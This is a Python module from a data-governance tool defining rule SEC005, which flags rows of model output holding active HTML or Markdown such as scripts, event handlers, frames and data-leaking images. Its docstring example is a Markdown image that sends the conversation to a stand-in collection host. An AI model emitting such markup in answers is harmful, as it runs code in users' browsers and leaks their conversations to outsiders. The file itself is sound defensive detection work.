"""# active-markup

## What it does
Finds markup that acts when a page shows the row: scripts, event handlers, links to `javascript:` and
`data:text/html`, frames and embedded objects, redirects, and images whose address has a slot or a parameter for
the conversation, which would carry it to a server when the image is loaded. Markup in code fences and
backticks, and plain markup such as `<b>`, tables and ordinary images, is passed over.

## Why it matters
Answers are shown as Markdown or HTML by chat programs. A model that has learned to write active markup runs
code in the reader's browser or leaks what was said.

## Example
`![ok](https://collect.example/p.png?history={conversation})`

## Options
None.

## Known limits
- Whole web pages outside code fences are reported: a program that shows the row would run them.
- Markup that was escaped (`&lt;script&gt;`) is text and not reported.

## References
- OWASP Top 10 for LLM Applications, LLM05 Improper Output Handling
- HTML Living Standard, 8.1.8 Events
"""

from __future__ import annotations

from collections.abc import Mapping

import pyarrow as pa

from governance.findings import Severity
from governance.rules.base import Mapper, Partials, Rule, RuleInfo, RuleResult, Setup
from governance.rules.marks import reported
from governance.samples import SampleBatch

MESSAGES = {
    "script": "a script element",
    "handler": "an element with an event handler",
    "script-link": "a link that runs a script",
    "frame": "a frame, an embedded object or a redirect",
    "data-link": "an image whose address would carry data away",
}
"""What is said about each kind."""


def _map(batch: SampleBatch, setup: Setup) -> pa.Table | None:
    from governance.detectors.security.marks import markup_marks

    return markup_marks(batch, setup)


def reduce(partials: Mapping[str, Partials], setup: Setup) -> RuleResult:
    """One finding for each content and kind."""
    return reported(INFO.id, setup.severity(INFO), partials[MAPPER.name], MESSAGES)


MAPPER = Mapper("markup", _map)
INFO = RuleInfo(
    "SEC005",
    "active-markup",
    Severity.WARNING,
    "a row holds markup that acts when it is shown",
)
RULE = Rule(INFO, (MAPPER,), reduce)
